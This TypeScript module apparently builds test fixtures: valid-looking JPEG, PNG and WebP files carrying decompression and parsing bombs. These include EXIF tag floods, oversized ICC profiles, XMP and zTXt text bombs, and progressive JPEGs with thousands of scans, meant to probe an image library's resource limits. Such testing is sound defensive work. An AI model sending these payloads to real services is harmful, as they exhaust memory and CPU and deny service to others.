import { crc32, deflateSync, constants as zlib } from 'node:zlib';
import { paddedProfile, programProfile, uint32 } from './color-profiles.ts';

/**
 * Pictures that are small to send and costly to read. Each is a valid container around a plain picture, so that a reader that
 * ignores the hostile part opens it. Nothing here depends on the image library under test.
 */

const [WIDTH, HEIGHT] = [640, 480];
const TIFF_BYTE = 1;
const TIFF_LONG = 4;
const EXIF_IFD_POINTER = 0x8769;
/** The most bytes a JPEG segment holds after its length. */
const MAX_SEGMENT_BYTES = 65_533;

type Entry = { tag: number; type: number; count: number; value: number };

/** 1.1 MB of EXIF whose 65,535 tags each claim 2 GB of bytes. */
export function exifBombWebp(): Buffer {
  const entries = Array.from({ length: 65_535 }, (_, tag) => ({
    tag,
    type: TIFF_BYTE,
    count: 0x7fffffff,
    value: 26,
  }));
  return webp([['EXIF', Buffer.concat([exifBlob(entries), Buffer.alloc(300_000)])]]);
}

/** EXIF with `count` different tags, each claiming the whole block as its value. At most 5,400 in one segment; more take several. */
export function manyTagsJpeg(count: number): Buffer {
  return exifJpeg(Array.from({ length: count }, (_, tag) => wholeBlock(tag & 0xffff)));
}

/** EXIF that repeats one tag `count` times, each claiming the whole block as its value. */
export function repeatedTagJpeg(count: number): Buffer {
  return exifJpeg(Array.from({ length: count }, () => wholeBlock(0x9286)));
}

/** A progressive JPEG that needs all its coefficients in memory: 6 bytes a pixel without color subsampling, 3 with it. */
export function progressiveJpeg(megapixels: number, { subsampled = false } = {}): Buffer {
  const { width, height } = sides(megapixels);
  return jpeg([], { width, height, scans: 1, subsampled });
}

/** A progressive JPEG with thousands of scans: each makes a decoder walk the whole picture once more. */
export function manyScansJpeg(scans = 20_000, megapixels = 24): Buffer {
  const { width, height } = sides(megapixels);
  return jpeg([], { width, height, scans, subsampled: true });
}

/** An interlaced PNG with 16 bits a channel and alpha: 8 bytes a pixel, all of them needed at once. */
export function interlacedPng16(megapixels: number): Buffer {
  const { width, height } = sides(megapixels);
  return png({ width, height, depth: 16, interlaced: true }, []);
}

/** An animated PNG with `frames` frames of the size of the picture. */
export function apng(frames: number): Buffer {
  const [width, height] = [3000, 2000];
  const control = (sequence: number) =>
    Buffer.concat([uint32(sequence, width, height, 0, 0), Buffer.from([0, 1, 0, 10, 0, 0])]);
  const picture = zeros(rawBytes(width, height, 8));
  const rest = Array.from({ length: frames - 1 }, (_, at): Chunk[] => [
    ['fcTL', control(2 * at + 1)],
    ['fdAT', Buffer.concat([uint32(2 * at + 2), picture])],
  ]);
  const before: Chunk[] = [
    ['acTL', uint32(frames, 0)],
    ['fcTL', control(0)],
  ];
  return png({ width, height, depth: 8, interlaced: false }, before, rest.flat());
}

/** A JPEG with a color profile of 9 MB whose tag table claims 60,000 entries. */
export function iccBomb(): Buffer {
  return withProfile(paddedProfile(9_000_000, 60_000));
}

/** A JPEG whose color profile is a program of `steps` steps. 20,000 take 320 KB. */
export const iccProgram = (steps: number, factor = 1): Buffer => withProfile(programProfile(steps, factor));

function withProfile(profile: Buffer): Buffer {
  const room = MAX_SEGMENT_BYTES - 14;
  const parts = Math.ceil(profile.length / room);
  const segments = Array.from({ length: parts }, (_, at) =>
    segment(
      0xe2,
      Buffer.concat([
        Buffer.from('ICC_PROFILE\0'),
        Buffer.from([at + 1, parts]),
        profile.subarray(at * room, (at + 1) * room),
      ]),
    ),
  );
  return jpeg(segments);
}

/** A PNG whose color profile unpacks to 400 MB. */
export function iccBombPng(): Buffer {
  return png(PLAIN_PNG, [['iCCP', Buffer.concat([Buffer.from('profile\0\0'), zeros(400_000_000)])]]);
}

/** A JPEG with 9 MB of XMP in 140 segments. */
export function xmpBomb(): Buffer {
  const head = Buffer.from('http://ns.adobe.com/xap/1.0/\0');
  const text = Buffer.alloc(MAX_SEGMENT_BYTES - head.length - 2, '<rdf:li><rdf:li a="&amp;">');
  return jpeg(Array.from({ length: 140 }, () => segment(0xe1, Buffer.concat([head, text]))));
}

/** A PNG with `count` compressed texts that unpack to 7 MB each. */
export function textBombPng(count = 1000): Buffer {
  const text = Buffer.concat([Buffer.from('Comment\0\0'), zeros(7_000_000)]);
  return png(
    PLAIN_PNG,
    Array.from({ length: count }, () => ['zTXt', text]),
  );
}

/** An EXIF block: `II`, one directory that points to the Exif directory, and its entries. */
export function exifBlob(entries: readonly Entry[]): Buffer {
  const exifIfdAt = 26;
  return Buffer.concat([
    Buffer.from('II*\0\x08\0\0\0', 'latin1'),
    directory([{ tag: EXIF_IFD_POINTER, type: TIFF_LONG, count: 1, value: exifIfdAt }]),
    directory(entries),
  ]);
}

const wholeBlock = (tag: number): Entry => ({ tag, type: TIFF_BYTE, count: 0xffff, value: 8 });

/** Cut to the size of one segment; two segments for more entries. */
function exifJpeg(entries: readonly Entry[]): Buffer {
  const padding = Buffer.alloc(65_000);
  const blob = Buffer.concat([exifBlob(entries), padding]).subarray(0, MAX_SEGMENT_BYTES - 6);
  const exif = segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), blob]));
  return jpeg([exif, segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), padding]))]);
}

function directory(entries: readonly Entry[]): Buffer {
  const bytes = Buffer.alloc(2 + 12 * entries.length + 4);
  bytes.writeUInt16LE(entries.length);
  for (const [at, { tag, type, count, value }] of entries.entries()) {
    const start = 2 + 12 * at;
    bytes.writeUInt16LE(tag, start);
    bytes.writeUInt16LE(type, start + 2);
    bytes.writeUInt32LE(count, start + 4);
    bytes.writeUInt32LE(value, start + 8);
  }
  return bytes;
}

/** 4 x 3, in multiples of 16 as a JPEG with subsampled color requires. */
function sides(megapixels: number): { width: number; height: number } {
  const unit = Math.floor(Math.sqrt((megapixels * 1e6) / 12) / 16) * 16;
  return { width: 4 * unit, height: 3 * unit };
}

type JpegShape = { width: number; height: number; scans: number; subsampled: boolean };

const PLAIN_JPEG: JpegShape = { width: WIDTH, height: HEIGHT, scans: 1, subsampled: false };

/** A uniform gray progressive JPEG: every block takes one bit, so any size is quick to create. */
function jpeg(segments: readonly Buffer[], { width, height, scans, subsampled }: JpegShape = PLAIN_JPEG): Buffer {
  const blocks = (width / 8) * (height / 8);
  const sampling = subsampled ? 0x22 : 0x11;
  const frame = Buffer.from([8, height >> 8, height & 255, width >> 8, width & 255, 3]);
  const components = Buffer.from([1, sampling, 0, 2, 0x11, 0, 3, 0x11, 0]);
  const firstScan = Buffer.alloc(Math.ceil((blocks * (subsampled ? 1.5 : 3)) / 8));
  // One code for "the next 16,384 blocks are unchanged": a 0 bit and 14 bits with the additional count.
  const skips = Buffer.alloc(Math.ceil((Math.ceil(blocks / 16_384) * 15) / 8));
  const laterScan = Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, 1, 63, 0])), skips]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    ...segments,
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 16)])),
    segment(0xc2, Buffer.concat([frame, components])),
    segment(0xc4, oneCode(0x00, 0)),
    segment(0xc4, oneCode(0x10, 0xe0)),
    segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, 0, 0])),
    firstScan,
    ...Array.from({ length: scans - 1 }, () => laterScan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A Huffman table whose only code is a single 0 bit. */
const oneCode = (tableId: number, symbol: number): Buffer => Buffer.from([tableId, 1, ...Array(15).fill(0), symbol]);

function segment(marker: number, body: Uint8Array): Buffer {
  const length = body.length + 2;
  return Buffer.concat([Buffer.from([0xff, marker, length >> 8, length & 255]), body]);
}

type Chunk = [type: string, body: Buffer];
type PngShape = { width: number; height: number; depth: 8 | 16; interlaced: boolean };

const PLAIN_PNG: PngShape = { width: WIDTH, height: HEIGHT, depth: 8, interlaced: false };

/** A PNG with alpha whose pixels are all zero. */
function png({ width, height, depth, interlaced }: PngShape, before: readonly Chunk[], after: readonly Chunk[] = []) {
  const header = Buffer.concat([uint32(width, height), Buffer.from([depth, 6, 0, 0, interlaced ? 1 : 0])]);
  const bytes = interlaced ? interlacedBytes(width, height, depth) : rawBytes(width, height, depth);
  const chunks: Chunk[] = [['IHDR', header], ...before, ['IDAT', zeros(bytes)], ...after, ['IEND', Buffer.alloc(0)]];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks.map(pngChunk)]);
}

function pngChunk([type, body]: Chunk): Buffer {
  const checked = Buffer.concat([Buffer.from(type), body]);
  return Buffer.concat([uint32(body.length), checked, uint32(crc32(checked))]);
}

/** Each row begins with the byte of its filter. */
const rawBytes = (width: number, height: number, depth: 8 | 16): number =>
  width > 0 ? height * (1 + (width * 4 * depth) / 8) : 0;

/** The start of each of the seven passes of an interlaced PNG, and the distance of its pixels: x, y, across, down. */
const PASSES = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;

const interlacedBytes = (width: number, height: number, depth: 8 | 16): number =>
  PASSES.map(([x, y, across, down]) =>
    rawBytes(Math.ceil((width - x) / across), Math.ceil((height - y) / down), depth),
  ).reduce((sum, bytes) => sum + bytes, 0);

const BLOCK_BYTES = 1_000_000;

/** Zeros in zlib format, assembled from one compressed block so that half a gigabyte takes no time. */
function zeros(bytes: number): Buffer {
  const packed = (length: number) =>
    deflateSync(Buffer.alloc(length), { finishFlush: zlib.Z_FULL_FLUSH, level: 9 }).subarray(2);
  const block = packed(BLOCK_BYTES);
  const whole = Array.from({ length: Math.floor(bytes / BLOCK_BYTES) }, () => block);
  // Adler-32 of zeros: 1 in the low half, the count in the high half.
  const check = uint32((((bytes % 65_521) << 16) | 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...whole, packed(bytes % BLOCK_BYTES), Buffer.from([3, 0]), check]);
}

/** An animated WebP of `frames` frames. Each but the first is one pixel and takes 46 bytes. */
export function animatedWebp(frames: number): Buffer {
  const frame = (width: number, height: number): Chunk => {
    const head = Buffer.concat([Buffer.alloc(6), uint24(width - 1), uint24(height - 1), Buffer.from([10, 0, 0, 0])]);
    return ['ANMF', Buffer.concat([head, riffChunk(['VP8L', losslessPicture(width, height)])])];
  };
  const animation: Chunk = ['ANIM', Buffer.alloc(6)];
  return riff(0x12, [animation, frame(WIDTH, HEIGHT), ...Array.from({ length: frames - 1 }, () => frame(1, 1))]);
}

const webp = (chunks: readonly Chunk[]): Buffer => riff(0x08, [['VP8L', losslessPicture(WIDTH, HEIGHT)], ...chunks]);

/** A single color needs no more than the four codes of one symbol each. */
function losslessPicture(width: number, height: number): Buffer {
  const size = (width - 1) | ((height - 1) << 14);
  return Buffer.concat([Buffer.from([0x2f]), uint32Le(size), Buffer.from([0x88, 0x88, 0x08, 0, 0, 0, 0, 0])]);
}

function riff(flags: number, chunks: readonly Chunk[]): Buffer {
  const extended = Buffer.concat([Buffer.from([flags, 0, 0, 0]), uint24(WIDTH - 1), uint24(HEIGHT - 1)]);
  const all: Chunk[] = [['VP8X', extended], ...chunks];
  const body = Buffer.concat([Buffer.from('WEBP'), ...all.map(riffChunk)]);
  return Buffer.concat([Buffer.from('RIFF'), uint32Le(body.length), body]);
}

const riffChunk = ([type, body]: Chunk): Buffer =>
  Buffer.concat([Buffer.from(type), uint32Le(body.length), body, Buffer.alloc(body.length % 2)]);

function uint32Le(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}

const uint24 = (value: number): Buffer => uint32Le(value).subarray(0, 3);
